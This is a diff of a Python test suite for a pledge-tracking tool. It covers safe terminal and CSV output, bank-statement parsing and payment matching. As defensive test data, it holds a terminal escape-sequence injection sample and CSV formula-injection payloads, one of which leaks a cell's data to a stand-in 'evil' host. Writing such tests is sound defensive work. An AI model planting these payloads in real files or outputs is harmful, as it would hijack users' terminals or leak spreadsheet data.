@@ -17,7 +17,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from pledgebox import cli, keys, pledges, review, sealing
+from pledgebox import cli, keys, payments, pledges, report, review, safetext, sealing
 from tests.conftest import FAST_SCRYPT, PASSPHRASE
 
 CAMPAIGN = "test-campaign"
@@ -314,14 +314,25 @@ def test_control_characters_and_bidi_overrides_never_reach_the_terminal(tmp_path
 
 @given(st.text())
 def test_terminal_text_is_always_safe(text):
-    safe = review.terminal_text(text)
+    safe = safetext.terminal(text)
     assert not RAW_DANGER.search(safe)
     assert not any(unicodedata.category(ch) in ("Cc", "Cs", "Zl", "Zp") for ch in safe)
 
 
-@given(st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cf", "Cs", "Zl", "Zp")), max_size=40))
+@given(st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cf", "Co", "Cs", "Zl", "Zp")).filter(
+    lambda ch: not safetext.hidden(ch)), max_size=40))
 def test_terminal_text_leaves_ordinary_text_alone(text):
-    assert review.terminal_text(text) == text.replace("\\", "\\\\")
+    assert safetext.terminal(text) == text.replace("\\", "\\\\")
+
+
+def test_a_planted_currency_cannot_drive_the_terminal(tmp_path, identity, run):
+    # The currency is printed on the "Pledged:" line, outside the table: it once went out raw.
+    currency = "\x1b]0;PWNED\x07\x1b[2J"
+    write_records(tmp_path / "a.sealed", [("r1", sealed([identity], 1, currency=currency))])
+    code, out, err = run(tmp_path / "a.sealed")
+    assert code == 0
+    assert "\x1b" not in out + err and "\x07" not in out + err
+    assert "Pledged: 25.00 \\x1b]0;PWNED\\x07\\x1b[2J." in out
 
 
 FORMULAS = ["=HYPERLINK(\"http://evil/\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
@@ -330,12 +341,12 @@ FORMULAS = ["=HYPERLINK(\"http://evil/\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A
 
 @pytest.mark.parametrize("payload", FORMULAS)
 def test_csv_cells_are_neutralised_against_formulas(payload):
-    assert review.csv_cell(payload) == "'" + payload
+    assert safetext.csv_cell(payload) == "'" + payload
 
 
 @given(st.text())
 def test_no_csv_cell_starts_like_a_formula(text):
-    cell = review.csv_cell(text)
+    cell = safetext.csv_cell(text)
     assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
     assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", cell)
 
@@ -409,15 +420,15 @@ def test_a_long_message_is_cut_to_the_terminal_unless_wide(tmp_path, identity, r
     code, out, _ = run(tmp_path / "a.sealed")
     assert code == 0
     line = rows(out)[0]
-    assert review.width(line) <= 100 and line.endswith("…")
+    assert safetext.width(line) <= 100 and line.endswith("…")
     code, out, _ = run(tmp_path / "a.sealed", "--wide")
     assert message.strip() in out
 
 
 def test_wide_characters_count_double():
-    assert review.width("漢字") == 4
-    assert review.width("é") == 1 and review.width("e\u0301") == 1
-    assert review.fit("漢字漢字", 5) == "漢字…"
+    assert safetext.width("漢字") == 4
+    assert safetext.width("é") == 1 and safetext.width("e\u0301") == 1
+    assert safetext.fit("漢字漢字", 5) == "漢字…"
 
 
 # -- payments --------------------------------------------------------------------------------------
@@ -430,7 +441,7 @@ def test_wide_characters_count_double():
     ("1,23,456", ".", None), ("", ",", None), ("abc", ".", None), ("1.2.3,4,5", ",", None), ("-", ".", None),
 ])
 def test_amounts_from_bank_statements(text, mark, amount):
-    assert review.parse_money(text, mark) == (Decimal(amount) if amount else None)
+    assert payments.parse_money(text, mark) == (Decimal(amount) if amount else None)
 
 
 GERMAN = """Kontonummer:;DE89 3704 0044 0532 0130 00;
@@ -518,8 +529,8 @@ def test_one_transfer_for_two_pledges_fills_both(identity):
     entries = [review.Entry(reference=ref(n), day="2026-11-25", amount=Decimal(a), currency="EUR",
                             designation="split", method="sepa", pseudonym="", contact="", message="",
                             language="en", campaign=CAMPAIGN, record_id=f"r{n}") for n, a in ((1, "20"), (2, "30"))]
-    payments = review.Payments("bank.csv", [review.Payment(2, Decimal("60"), f"{ref(1)} und {ref(2)}")], "")
-    matching = review.match(entries, payments)
+    statement = payments.Payments("bank.csv", [payments.Payment(2, Decimal("60"), f"{ref(1)} und {ref(2)}")], "")
+    matching = payments.match(entries, statement)
     assert matching.received == Decimal("60")
     assert [(e.received, e.status) for e in entries] == [(Decimal("20"), "received"), (Decimal("40"), "received")]
 
@@ -530,8 +541,8 @@ def test_a_reference_is_found_in_any_case_with_any_separators():
     code = reference.replace("-", "")
     for text in (reference, reference.lower(), code, f"{code[:5]} {code[5:]}", f"{code[:5]}.{code[5:]}",
                  f"Spende:{code}/danke", " ".join(code), f"x{code}y"):
-        assert review.find_references(text, known) == [reference], text
-    assert review.find_references(_typo(reference), known) == []
+        assert payments.find_references(text, known) == [reference], text
+    assert payments.find_references(_typo(reference), known) == []
 
 
 @settings(max_examples=60, deadline=None)
@@ -549,7 +560,7 @@ def test_no_file_content_crashes_review(identities, lines):
         assert result.entries == []
         assert len(result.damaged) + sum(result.other_keys.values()) + result.duplicates == result.records
         out, err = io.StringIO(), io.StringIO()
-        review.report(result, None, out, err)
+        report.report(result, None, out, err)
         assert not RAW_DANGER.search(out.getvalue() + err.getvalue())
 
 
